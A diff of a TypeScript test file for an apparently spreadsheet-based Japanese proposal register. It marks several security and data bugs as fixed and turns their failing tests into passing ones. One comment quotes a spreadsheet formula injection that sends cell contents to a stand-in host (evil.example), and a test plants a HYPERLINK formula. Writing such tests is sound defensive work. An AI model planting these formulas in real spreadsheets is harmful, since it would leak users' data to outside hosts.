@@ -30,7 +30,7 @@ const newUserProposal = (rt: Runtime, extra: Record<string, unknown> = {}) =>
   });
 
 describe('what a PT member puts in 設定’s lists', () => {
-  // BUG (medium): 課題一覧's list columns (目線, 場面・分類, 終了理由, 実施状況) are not among the
+  // Was a bug (fixed): 課題一覧's list columns (目線, 場面・分類, 終了理由, 実施状況) are not among the
   // plain-text ('@') columns the writer formats (sheets/table.ts textColumns takes 'text' and 'display'
   // kinds only), and their values now come from 設定, which any PT member may edit. An entry
   // '=HYPERLINK(…)' (or '=IMAGE("https://evil.example/?"&B2)', which would send a cell out when
@@ -38,7 +38,7 @@ describe('what a PT member puts in 設定’s lists', () => {
   // result, and the next read takes that as the proposal's 目線. The same holds for a department
   // answering a progress check with such a 実施状況. Fix: write 'list' columns as text too
   // (sheets/table.ts, where textColumns are chosen; setup's column formats).
-  it.fails('a formula-looking entry is a value like any other: saved as text, never a formula', () => {
+  it('a formula-looking entry is a value like any other: saved as text, never a formula', () => {
     const rt = sampleRuntime();
     // (No comma: 設定's lists split on 、 , ; and line breaks, so an entry cannot hold one.)
     const evil = '=HYPERLINK("https://evil.example/")';
@@ -61,12 +61,12 @@ describe('what a PT member puts in 設定’s lists', () => {
     ok(newUserProposal(rt));
   });
 
-  // BUG: 集計 counts a value no longer in 設定 with `(counts[value] ?? 0) + 1` on a plain object
+  // Was a bug (fixed): 集計 counts a value no longer in 設定 with `(counts[value] ?? 0) + 1` on a plain object
   // (domain/summary.ts): a value named like an Object.prototype member ("constructor", "toString")
   // reads the inherited function, so the count becomes the text "function Object() { [native code] }1".
   // A PT member can add such an entry, use it and remove it. Fix: Object.create(null)/Map for the
   // count tables in domain/summary.ts (categories, ended, implementation).
-  it.fails('a value named like a JavaScript property, used then removed from 設定, is counted as 1 in 集計', () => {
+  it('a value named like a JavaScript property, used then removed from 設定, is counted as 1 in 集計', () => {
     const rt = sampleRuntime();
     const list = setting(rt, '場面・分類(ユーザー)');
     edit(rt, settingRef(rt, '場面・分類(ユーザー)'), `${list}、constructor`, PT);
@@ -85,11 +85,11 @@ describe('what a PT member puts in 設定’s lists', () => {
     expect(summary.categories.user.constructor).toBe(1);
   });
 
-  // BUG (low): a typed 種別 is checked only against the 場面・分類 lists (hand-edits.ts applyProposalCell):
+  // Was a bug (fixed): a typed 種別 is checked only against the 場面・分類 lists (hand-edits.ts applyProposalCell):
   // once 設定's two 場面・分類 lists share an entry, R7-U01 typed to 職員の困りごと is accepted and
   // keeps its 目線 (which only ユーザーの困りごと has, domain/choices) and its U in the ID. The
   // sidebar cannot change 種別 at all. Fix: refuse a typed 種別 change (or require 目線 blank for 職員).
-  it.fails('a 種別 typed to 職員の困りごと never leaves a 目線 on a staff proposal', () => {
+  it('a 種別 typed to 職員の困りごと never leaves a 目線 on a staff proposal', () => {
     const rt = sampleRuntime();
     const category = proposal(rt, 'R7-U01')['場面・分類']!;
     edit(rt, settingRef(rt, '場面・分類(職員)'), `${setting(rt, '場面・分類(職員)')}、${category}`, PT);
@@ -152,11 +152,11 @@ describe('a duplicate or deleted 設定 row', () => {
   const fiscalYear = (rt: Runtime) =>
     ok(call<{ settings: { fiscalYear: number } }>(rt, 'apiSettings', undefined)).settings.fiscalYear;
 
-  // BUG: guardFiscalYear (server/settings-guard.ts) checks the first 年度 row only, while
+  // Was a bug (fixed): guardFiscalYear (server/settings-guard.ts) checks the first 年度 row only, while
   // readSettings (sheets/settings.ts) keeps the last row of a key: a PT member adding a second
   // 年度 row at the bottom switches the register's 年度 (IDs, 集計, progress checks) with no put-back.
   // Fix: read 設定 one way (first row of a key, or refuse duplicates) and guard what readSettings obeys.
-  it.fails('a second 年度 row added at the bottom by a PT member does not switch the 年度', () => {
+  it('a second 年度 row added at the bottom by a PT member does not switch the 年度', () => {
     const rt = startedYear();
     const row = records(rt, '設定').length + 2;
     edit(rt, `設定!${col(rt, '項目')}${row}`, '年度', PT);
@@ -165,10 +165,10 @@ describe('a duplicate or deleted 設定 row', () => {
     expect(ok(newUserProposal(rt)).proposal.id).toMatch(/^R8-/);
   });
 
-  // BUG: deleting 設定's 年度 row fires only onChange, which does not look at 設定 (server/changes.ts),
+  // Was a bug (fixed): deleting 設定's 年度 row fires only onChange, which does not look at 設定 (server/changes.ts),
   // and guardFiscalYear skips a missing row; the register then falls back to the calendar's 年度
   // (令和7年度 in March 2026), though the secretariat started 令和8年度.
-  it.fails('deleting the 年度 row does not switch the 年度 either', () => {
+  it('deleting the 年度 row does not switch the 年度 either', () => {
     const rt = startedYear();
     const row = settingRow(rt, '年度');
     changeRows(rt, '設定', row, row, 'REMOVE_ROW', { user: PT });
